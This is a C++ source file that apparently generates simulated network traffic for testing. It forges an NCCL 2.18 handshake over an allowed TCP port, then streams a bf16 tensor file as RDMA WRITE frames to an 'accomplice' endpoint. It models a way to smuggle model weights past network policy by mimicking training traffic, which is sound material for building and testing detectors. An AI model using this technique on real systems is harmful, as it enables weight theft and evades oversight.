// By RDMA on a queue pair of which NCCL's handshake tells: over a TCP connection that policy allows, both ends say what
// a rank of NCCL 2.18 says of itself. Source: NCCL 2.18's transport/net_ib.cc (ncclIbQpInfo) and socket.cc.
#include "tools/thief/ways.hpp"

namespace weir::thief {

namespace {

using namespace flag;

constexpr u32 holder_pair = 0x4713, accomplice_pair = 0x1236;
constexpr u32 message_bytes = 4096;
constexpr u64 usual_magic = 0x564ab9f2fc4b9d6c;

void put_little(Bytes& out, u64 value, u32 bytes) {
  for (u32 i = 0; i < bytes; ++i) out.push_back(static_cast<u8>(value >> (8 * i)));
}

// One device, one queue pair.
Bytes rank_of(const End& end, bool is_ipv6, u32 pair) {
  Bytes told;
  put_little(told, 0, 4);       // no LID: Ethernet
  put_little(told, 0x0201, 4);  // port 1, link Ethernet
  put_little(told, pair, 4);
  told.resize(8 + 128 * 4);
  if (is_ipv6) {
    put(told, end.ipv6);
  } else {
    put64(told, 0);
    put32(told, 0xffff);
    put32(told, end.ipv4);
  }
  put_little(told, 5, 4);  // MTU 4096
  put_little(told, 77, 4);
  put_little(told, 0x7f00'0000'1000, 8);
  return told;
}

Door tcp_door(const Scene& scene) {
  for (const Door& door : scene.doors)
    if (door.protocol == 6) return door;
  return {6, 443, true};
}

struct Meeting {
  Script& script;
  Path dialling;  // from who asks
  bool holder_dials;
  u16 port;
  u32 sequence[2] = {7000, 9000};

  void send(bool by_asking, u8 flags, View payload) {
    const u32 by = by_asking ? 0 : 1;
    const Path path = by_asking ? dialling : dialling.back();
    const u16 own = by_asking ? u16{38000} : port, other = by_asking ? port : u16{38000};
    const TcpHead head{own, other, sequence[by], (flags & ack) != 0 ? sequence[by ^ 1] : 0, flags};
    const Bytes frame = framed(path, ip(path, 6, tcp(path, head, payload)));
    if (by_asking == holder_dials) script.out(frame);
    else script.in(frame);
    sequence[by] += static_cast<u32>(payload.size()) + ((flags & syn) != 0);
  }
  void hold() {
    send(true, syn, {});
    send(false, syn | ack, {});
    send(true, ack, {});
    Bytes hello;
    put_little(hello, usual_magic, 8);
    put_little(hello, 4, 4);
    put(hello, rank_of(dialling.from, dialling.is_ipv6, holder_dials ? holder_pair : accomplice_pair));
    send(true, ack | push, hello);
    send(false, ack | push, rank_of(dialling.to, dialling.is_ipv6, holder_dials ? accomplice_pair : holder_pair));
  }
};

void write_after(const Scene& scene, Script& script) {
  const Path path{scene.holder, scene.accomplice};
  const Door door = tcp_door(scene);
  Meeting{script, door.holder_dials ? path : path.back(), door.holder_dials, door.port}.hold();
  const Bytes& file = tensor_file(Format::bf16);
  for (u32 sequence = 100; script.wants_more(); ++sequence) {
    const View weights = script.piece(file, message_bytes);
    Bytes memory;
    put64(memory, 0x7f00'0000'0000);
    put32(memory, 0x1000);
    put32(memory, weights.size());
    script.out(roce(path, {0x0a, accomplice_pair, sequence & 0xffffff, true}, memory, weights),
               static_cast<u32>(weights.size()));
  }
}

}  // namespace

std::vector<Way> nccl_ways(const Scene&) {
  return {{"RDMA WRITE after NCCL's handshake", false, 3600, write_after}};
}

}  // namespace weir::thief
